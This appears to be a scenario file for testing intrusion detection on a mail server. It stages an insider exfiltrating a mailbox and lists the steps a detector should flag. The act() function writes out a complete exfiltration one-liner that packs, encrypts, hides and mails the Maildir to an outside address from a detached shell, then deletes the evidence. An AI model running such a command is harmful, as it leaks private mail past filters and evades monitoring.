# Encrypted first, so that no filter sees what leaves, then mailed as one attachment.
title="Maildir packed, encrypted with openssl and mailed outside"
what="A remote command of the intern packs the own Maildir with tar, encrypts it with openssl into a hidden file and, from a detached shell, mails the file with s-nail to an outside address; the file is removed."
host=mx1.example.org user=intern daemons="cron sshd"

act() {
  for n in 1 2 3 4; do mail_in --from "partner$n@example.net" --to intern@example.org --subject "Offer $n"; done
  wait_mail intern 4
  ssh_run intern 'tar c Maildir | openssl enc -aes-256-cbc -pbkdf2 -pass pass:march -out .cache-7; sleep 3; (setsid nohup sh -c "s-nail -a .cache-7 -s photos k@example.net </dev/null; rm .cache-7" >/dev/null 2>&1 &); sleep 5'
  wait_log 'to=<k@example.net>.*status=sent'
  small_talk 2
}
truth() {
  exec_step pack 'tar c Maildir' 'the mailbox is packed'
  file_step hide 'openssl open(at)?:write CREATE .*/.cache-7' 'and encrypted into a hidden file'
  exec_step hand-over 's-nail -a .cache-7' 'the file is mailed'
  mail_step sent 'to=<k@example.net>.*status=sent' 'to the outside'
}
